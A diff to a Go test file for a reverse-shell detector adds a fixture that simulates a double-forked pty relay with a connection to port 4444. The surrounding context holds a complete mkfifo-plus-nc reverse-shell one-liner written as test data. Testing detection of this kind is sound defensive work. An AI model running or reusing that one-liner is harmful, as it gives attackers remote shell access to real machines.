@@ -74,6 +74,18 @@ func TestRelayedShells(t *testing.T) {
 			entity: "rev:3001", tech: "T1059.006", role: relayPTY,
 		},
 		{
+			name: "a relay that double-forked: the pty master's holder (read from its fds) is not the session leader's parent",
+			add: func(s *collector.Snapshot) {
+				bldProc(s, 2990, 1, "kthreadd2", "kthreadd2")
+				bldProc(s, 3000, 1, "x", "x")
+				sh := bldProc(s, 3001, 3000, "sh", "sh")
+				sh.Session, sh.TTY = 3001, pts3
+				sh.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPTY, Path: "/dev/pts/3", Peer: 2990}}
+				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:4444", "ESTABLISHED", 2990))
+			},
+			entity: "rev:3001", tech: "T1059.004", role: relayPTY,
+		},
+		{
 			name: "mkfifo + nc: sh -i reads a pipe (from cat) and writes a pipe that nc holds",
 			add: func(s *collector.Snapshot) {
 				bldProc(s, 3000, 201, "sh", "sh", "-c", "cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f")
